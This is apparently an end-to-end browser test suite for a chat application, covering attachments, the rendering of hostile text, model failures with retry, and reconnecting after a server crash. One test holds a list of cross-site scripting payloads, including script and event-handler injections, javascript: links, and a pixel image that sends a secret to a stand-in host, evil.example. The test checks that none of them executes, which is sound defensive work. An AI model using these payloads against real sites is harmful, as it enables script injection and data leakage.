// What a conversation must survive in the page: files, hostile answers, a model that fails, a server that dies in mid-run.
import { randomBytes } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { answersOf, closeBrowser, composerOf, openDevice, saidOf, say, untilAnswered } from './browser.ts';
import type { CliServer } from './cli-server.ts';
import { startCliServer } from './cli-server.ts';
import type { TalkModel } from './model.ts';
import { createGate, startTalkModel } from './model.ts';

const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAgAAAAICAIAAABLbSncAAAAEklEQVR42mNw0UvGihgGpwQAm4Q7gQdbrBAAAAAASUVORK5CYII=',
  'base64',
);

const HOSTILE = [
  '<script>window.hacked = 1</script>',
  '<img src=x onerror="window.hacked = 2"> <iframe src="https://evil.example/"></iframe>',
  '<style>body { display: none }</style><svg onload="window.hacked = 3"></svg>',
  '[click](javascript:window.hacked=4) [data](data:text/html,<script>1</script>)',
  '![pixel](https://evil.example/pixel.png?secret=1)',
  '<form action="https://evil.example/"><button>Send</button></form>',
  '`<b>` **<i>x</i>**',
].join('\n\n');

describe('answers', { timeout: 60_000 }, () => {
  let model: TalkModel;
  let server: CliServer;
  beforeAll(async () => {
    model = await startTalkModel();
    server = await startCliServer(model.environment);
  });
  afterAll(async () => {
    await closeBrowser();
    await server?.[Symbol.asyncDispose]();
    await model?.[Symbol.asyncDispose]();
  });

  it('an image and a text file reach the model, one picked and one pasted, and stay with the message', async () => {
    await using device = await openDevice(server);
    const page = await device.open('/c/new');
    model.on('What are these', [{ text: 'A square and a list.' }]);
    await composerOf(page).waitFor();
    const chooser = page.waitForEvent('filechooser');
    await page.getByRole('button', { name: 'Attach files' }).click();
    await (await chooser).setFiles({ name: 'square.png', mimeType: 'image/png', buffer: PNG });
    const pasted = `milk 家 ${randomBytes(8).toString('hex')}`;
    await composerOf(page).evaluate((field, text) => {
      const data = new DataTransfer();
      data.items.add(new File([text], 'list.txt', { type: 'text/plain' }));
      field.dispatchEvent(new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }));
    }, pasted);
    for (const name of ['square.png', 'list.txt']) await page.getByRole('button', { name: `Remove ${name}` }).waitFor();
    await expect.poll(() => page.getByRole('img', { name: 'Uploading' }).count()).toBe(0);
    await say(page, 'What are these');
    await answersOf(page).getByText('A square and a list.').waitFor();
    const sent = JSON.stringify(model.server.requests.at(-1)!.body.messages);
    expect(sent).toContain(`data:image/png;base64,${PNG.toString('base64')}`);
    expect(sent).toContain(pasted);
    await untilAnswered(page);
    await page.reload();
    const links = saidOf(page).getByRole('link');
    await expect
      .poll(() => links.allTextContents())
      .toEqual([expect.stringContaining('square.png'), expect.stringContaining('list.txt')]);
    const image = links.first().locator('img');
    await expect.poll(() => image.evaluate((element) => (element as HTMLImageElement).naturalWidth)).toBe(8);
    expect(device.problems).toEqual([]);
  });

  it('CHAN-12 hostile text does nothing, as an answer, a message, a title and an argument', async () => {
    await using device = await openDevice(server);
    const page = await device.open('/c/new');
    model.on(
      'window.hacked',
      [{ reasoning: HOSTILE }, { text: HOSTILE }, { call: 'current_time', args: { zone: HOSTILE.slice(0, 90) } }],
      [{ text: HOSTILE }],
    );
    await say(page, HOSTILE);
    await untilAnswered(page);
    for (const button of await page.getByTestId('tool-row').getByRole('button').all()) await button.click();
    await page.reload();
    await untilAnswered(page);
    const articles = page.getByRole('article');
    expect(await articles.locator('script, iframe, style, form, img, [onerror], [onload]').count()).toBe(0);
    const links = await articles.locator('a').evaluateAll((all) => all.map((a) => (a as HTMLAnchorElement).href));
    expect(links.filter((href) => !href.startsWith('https://evil.example/'))).toEqual([]);
    expect(await answersOf(page).textContent()).toContain('<script>window.hacked = 1</script>');
    expect(await page.evaluate(() => (globalThis as { hacked?: number }).hacked)).toBeUndefined();
    expect(device.problems).toEqual([]);
  });

  it('a model that fails is told with what to do, and Try again asks it again', async () => {
    await using device = await openDevice(server);
    const page = await device.open('/c/new');
    model.on('Mend it', (before) =>
      before === 0 ? { status: 401, json: { error: { message: 'No such key.' } } } : [{ text: 'It works again.' }],
    );
    await say(page, 'Mend it');
    const failure = page.getByRole('group', { name: 'The run failed' });
    await failure.waitFor();
    expect(await failure.textContent()).toMatch(/No such key\..*Check the API key.*models\.auth/);
    await page.reload();
    await failure.getByRole('button', { name: 'Try again' }).click();
    await answersOf(page).getByText('It works again.').waitFor();
    await expect.poll(() => saidOf(page).count()).toBe(2);
    expect(device.problems).toEqual([]);
  });

  it('a server that is killed in mid-run is waited for; the run goes on, says so, and no word comes twice', async () => {
    await using device = await openDevice(server, {}, /ERR_|Failed to load resource/);
    const page = await device.open('/c/new');
    const gate = createGate();
    model.on('Long work', [{ call: 'current_time', args: {} }], (before) =>
      before === 0
        ? [{ text: 'Half of the answer' }, { hang: true }]
        : [{ text: 'All of ' }, ...gate.steps, { text: 'the answer.' }],
    );
    await say(page, 'Long work');
    await answersOf(page).getByText('Half of the answer').waitFor();
    await server.kill();
    await page.getByText('Connection lost. The run goes on; reconnecting…').waitFor();
    await server.start();
    await answersOf(page).getByText('All of').waitFor();
    await page.getByText('Connection lost.').waitFor({ state: 'detached' });
    gate.open();
    await untilAnswered(page);
    for (const isReloaded of [false, true]) {
      if (isReloaded) await page.reload();
      await untilAnswered(page);
      const text = (await answersOf(page).textContent()) ?? '';
      expect(text.split('All of the answer.')).toHaveLength(2);
      expect(text).not.toContain('Half of');
      expect(text.split('Resumed after a restart. No finished call was repeated.')).toHaveLength(2);
    }
    const asked = model.server.requests.filter(({ body }) => JSON.stringify(body).includes('Long work'));
    expect(asked).toHaveLength(3);
    expect(device.problems).toEqual([]);
  });
});
